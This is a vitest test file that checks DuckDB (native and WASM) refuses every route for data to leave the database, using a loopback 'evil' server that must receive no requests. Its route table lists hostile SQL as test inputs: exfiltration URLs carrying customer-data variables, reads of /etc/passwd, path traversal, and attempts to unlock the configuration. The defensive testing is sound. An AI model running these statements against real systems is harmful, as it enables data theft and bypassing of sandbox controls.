// No egress, by construction (docs/privacy.md): on both engines, after the settings every database gets,
// no statement reaches a URL, a file outside the readable set, an extension or the settings themselves;
// an "evil" loopback server counts every request it receives and must count none. The files the engine
// reads (the CLI's inputs linked after the lock, the worker's buffers registered after it) still read.
import { createServer, type Server } from 'node:http';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { safeSettings, WORKER_INPUTS } from '../../src/engine/db';
import { admit, openNodeDb, type NodeDb } from '../../src/node/duckdb';
import { loadRawFile } from '../../src/node/load';
import { openNodeWasm } from './helpers/wasm-db';

const requests: string[] = [];
let evil: Server;
let url = '';
beforeAll(async () => {
  evil = createServer((req, res) => { requests.push(`${req.method} ${req.url}`); res.end('leaked'); });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  url = `http://127.0.0.1:${(evil.address() as { port: number }).port}`;
});
afterAll(() => new Promise<void>((r) => evil.close(() => r())));

/** The two engines as the tests drive them: run one statement, or fail with DuckDB's message. */
interface Engine {
  run(sql: string): Promise<unknown[]>;
  /** A second connection, as the SQL cell opens (its TEMP VIEW lives there). */
  second(): Promise<(sql: string) => Promise<unknown[]>>;
  /** Makes a file with these bytes readable the way the shell does it after the lock; returns its name. */
  place(name: string, bytes: Uint8Array): string;
  /** A path outside the readable set that exists. */
  outside: string;
}

async function nativeEngine(): Promise<Engine & { db: NodeDb }> {
  const db = await openNodeDb({ threads: 2 });
  const dir = mkdtempSync(join(tmpdir(), 'tierbook-lockdown-'));
  const run = (sql: string) => db.rows(sql);
  return {
    db, run,
    async second() {
      const c = await db.instance.connect();
      return async (sql: string) => (await c.runAndReadAll(sql)).getRowObjectsJS();
    },
    place(name, bytes) {
      writeFileSync(join(dir, name), bytes);
      return admit(db, join(dir, name)).path;
    },
    outside: '/etc/passwd',
  };
}

async function wasmEngine(): Promise<Engine> {
  // The same wasm binary the page runs, with Node's runtime instead of the browser's.
  const bindings = await openNodeWasm();
  const conn = bindings.connect();
  const on = (c: typeof conn) => async (sql: string) => c.query(sql).toArray().map((r) => r.toJSON());
  const run = on(conn);
  for (const s of safeSettings({ readable: [WORKER_INPUTS] })) await run(s);
  return {
    run,
    async second() { return on(bindings.connect()); },
    place(name, bytes) {
      bindings.registerFileBuffer(`${WORKER_INPUTS}orders/${name}`, bytes);
      return `${WORKER_INPUTS}orders/${name}`;
    },
    outside: '/etc/passwd',
  };
}

const refusal = async (run: (sql: string) => Promise<unknown>, sql: string): Promise<string> => {
  try {
    await run(sql);
  } catch (e) {
    return String((e as Error).message).split('\n')[0];
  }
  return 'ran';
};

const DISABLED = /file system operations are disabled by configuration|Loading external extensions is disabled/;
const LOCKED = /the configuration has been locked/;
/** Functions of an extension: refused natively; in the wasm build the extension is absent and cannot load. */
const DISABLED_OR_ABSENT = new RegExp(`${DISABLED.source}|is not in the catalog, but it exists in the (parquet|json) extension`);

/** Every route out, as a statement and what DuckDB must answer. `{url}` is the evil server. */
const ROUTES: [string, string, RegExp][] = [
  ['read_text of a URL', `SELECT * FROM read_text('{url}/x')`, DISABLED],
  ['read_csv of a URL', `SELECT * FROM read_csv('{url}/x.csv')`, DISABLED],
  ['read_parquet of a URL', `SELECT * FROM read_parquet('{url}/x.parquet')`, DISABLED_OR_ABSENT],
  ['read_json of a URL', `SELECT * FROM read_json('{url}/x.json')`, DISABLED_OR_ABSENT],
  ['read_blob of a URL', `SELECT * FROM read_blob('{url}/x')`, DISABLED],
  ['a URL as a table name', `SELECT * FROM '{url}/x.csv'`, DISABLED],
  ['a URL built from a variable', `SELECT * FROM read_text('{url}/exfil?d=' || getvariable('leak'))`, DISABLED],
  ['COPY to a URL', `COPY (SELECT 1 AS a) TO '{url}/up.csv'`, DISABLED],
  ['COPY to a local file', `COPY (SELECT 1 AS a) TO '{tmp}/out.csv'`, DISABLED],
  ['EXPORT DATABASE', `EXPORT DATABASE '{tmp}/export'`, DISABLED],
  ['ATTACH a URL', `ATTACH '{url}/x.duckdb' AS x`, DISABLED],
  ['ATTACH a local file', `ATTACH '{tmp}/x.duckdb' AS x`, DISABLED],
  ['a local file outside the readable set', `SELECT * FROM read_text('{outside}')`, DISABLED],
  ['a file URL', `SELECT * FROM read_text('file://{outside}')`, DISABLED],
  ['climbing out of the readable set', `SELECT * FROM read_text('{readable}../../../../../..{outside}')`, DISABLED],
  ['listing a directory', `SELECT * FROM glob('/etc/*')`, DISABLED],
  ['LOAD an extension file', `LOAD '{tmp}/httpfs.duckdb_extension'`, DISABLED],
  ['SET enable_external_access', `SET enable_external_access = true`, LOCKED],
  ['SET GLOBAL enable_external_access', `SET GLOBAL enable_external_access = true`, LOCKED],
  ['PRAGMA enable_external_access', `PRAGMA enable_external_access = true`, LOCKED],
  ['RESET enable_external_access', `RESET enable_external_access`, LOCKED],
  ['SET allowed_directories', `SET allowed_directories = ['/']`, LOCKED],
  ['SET allowed_paths', `SET allowed_paths = ['{outside}']`, LOCKED],
  ['SET allowed_directories from a variable', `SET allowed_directories = getvariable('dirs')`, LOCKED],
  ['SET lock_configuration', `SET lock_configuration = false`, LOCKED],
  ['RESET lock_configuration', `RESET lock_configuration`, LOCKED],
  ['SET autoload_known_extensions', `SET autoload_known_extensions = true`, LOCKED],
  ['SET custom_extension_repository', `SET custom_extension_repository = '{url}'`, LOCKED],
  ['SET threads after the lock', `SET threads = 1`, LOCKED],
];

const engines: [string, () => Promise<Engine>][] = [['native DuckDB 1.4.4', nativeEngine], ['DuckDB-WASM 1.4.3', wasmEngine]];

describe.each(engines)('%s, locked down', (_name, make) => {
  let e: Engine;
  const tmp = mkdtempSync(join(tmpdir(), 'tierbook-outside-'));
  beforeAll(async () => {
    e = await make();
    // A variable carrying "customer data", as a hostile query would build it.
    await e.run(`SET VARIABLE leak = 'C001:120.50,C002:99.00'`);
    await e.run(`SET VARIABLE dirs = ['/']`);
  });

  test.each(ROUTES)('%s is refused', async (_what, template, expected) => {
    const readable = e.place('anchor.csv', new TextEncoder().encode('a\n1\n')).replace(/anchor\.csv$/, '');
    const sql = template.replaceAll('{url}', url).replaceAll('{tmp}', tmp).replaceAll('{outside}', e.outside).replaceAll('{readable}', readable);
    expect(await refusal(e.run, sql)).toMatch(expected);
    expect(requests).toEqual([]);
  });

  test('INSTALL fetches nothing and LOAD is refused: httpfs never loads', async () => {
    // Natively INSTALL is refused (no extension directory is accessible); the wasm build's INSTALL only
    // notes the repository (it fetches at LOAD), so there it runs and does nothing.
    for (const sql of ['INSTALL httpfs', `FORCE INSTALL httpfs FROM '${url}'`]) await refusal(e.run, sql);
    expect(await refusal(e.run, 'LOAD httpfs')).toMatch(DISABLED);
    expect(await refusal(e.run, `LOAD '${url}/httpfs.duckdb_extension'`)).toMatch(DISABLED);
    expect(await refusal(e.run, `SELECT * FROM read_text('${url}/after-install')`)).toMatch(DISABLED);
    expect(requests).toEqual([]);
  });

  test('the settings read back: no external access, locked, autoload and autoinstall off', async () => {
    const rows = await e.run(`SELECT name, CAST(value AS VARCHAR) AS value FROM duckdb_settings()
      WHERE name IN ('enable_external_access', 'lock_configuration', 'autoload_known_extensions', 'autoinstall_known_extensions') ORDER BY name`);
    expect(rows).toEqual([
      { name: 'autoinstall_known_extensions', value: 'false' },
      { name: 'autoload_known_extensions', value: 'false' },
      { name: 'enable_external_access', value: 'false' },
      { name: 'lock_configuration', value: 'true' },
    ]);
  });

  test('a file placed after the lock reads (plain and gzip); the same file elsewhere does not', async () => {
    const csv = 'customer_id,amount\nA,1\nB,2\nC,3\n';
    const plain = e.place('late.csv', new TextEncoder().encode(csv));
    const gz = e.place('late.csv.gz', new Uint8Array(gzipSync(csv)));
    expect(await e.run(`SELECT CAST(count(*) AS INTEGER) AS n FROM read_csv('${plain}')`)).toEqual([{ n: 3 }]);
    expect(await e.run(`SELECT CAST(count(*) AS INTEGER) AS n FROM read_csv('${gz}')`)).toEqual([{ n: 3 }]);
    writeFileSync(join(tmp, 'late.csv'), csv);
    expect(await refusal(e.run, `SELECT count(*) FROM read_csv('${join(tmp, 'late.csv')}')`)).toMatch(DISABLED);
  });

  test("the SQL cell's second connection makes its TEMP VIEW and queries the session's tables", async () => {
    await e.run('CREATE TABLE tb_metrics AS SELECT 1 AS idx, 10 AS monetary');
    const second = await e.second();
    await second('CREATE OR REPLACE TEMP VIEW customers AS SELECT * FROM tb_metrics');
    expect(await second('SELECT CAST(monetary AS INTEGER) AS m FROM customers')).toEqual([{ m: 10 }]);
    expect(await refusal(second, `SELECT * FROM read_text('${url}/from-second')`)).toMatch(DISABLED);
    expect(await refusal(second, 'SET enable_external_access = true')).toMatch(LOCKED);
    expect(requests).toEqual([]);
  });
});

describe('native: the tuning comes before the lock, and the CLI reads its inputs through the scratch directory', () => {
  test('threads as asked', async () => {
    const db = await openNodeDb({ threads: 2 });
    expect(await db.rows(`SELECT CAST(current_setting('threads') AS INTEGER) AS t`)).toEqual([{ t: 2 }]);
    db.close();
  });

  test('an input anywhere on disk loads; the link is gone afterwards and the file is untouched', async () => {
    const db = await openNodeDb();
    const dir = mkdtempSync(join(tmpdir(), 'tierbook-anywhere-'));
    const file = join(dir, 'orders.csv');
    writeFileSync(file, 'customer_id,order_date,amount\nA,2024-01-01,10\n');
    const { columns } = await loadRawFile(db, 'orders', file);
    expect(columns).toEqual(['customer_id', 'order_date', 'amount']);
    expect(await db.rows(`SELECT CAST(count(*) AS INTEGER) AS n FROM glob('${db.scratch}/*')`)).toEqual([{ n: 0 }]);
    expect(await refusal((s) => db.rows(s), `SELECT * FROM read_csv('${file}')`)).toMatch(DISABLED);
    db.close();
  });

  test("a read error names the user's file, not the link", async () => {
    const db = await openNodeDb();
    const dir = mkdtempSync(join(tmpdir(), 'tierbook-anywhere-'));
    const file = join(dir, 'orders.parquet');
    writeFileSync(file, 'PAR1 not a parquet footer PAR1');
    const message = await loadRawFile(db, 'orders', file).then(() => 'loaded', (err: Error) => err.message);
    expect(message.startsWith(`${file}: cannot be read as orders (`)).toBe(true);
    expect(message).not.toContain(db.scratch);
    db.close();
  });
});
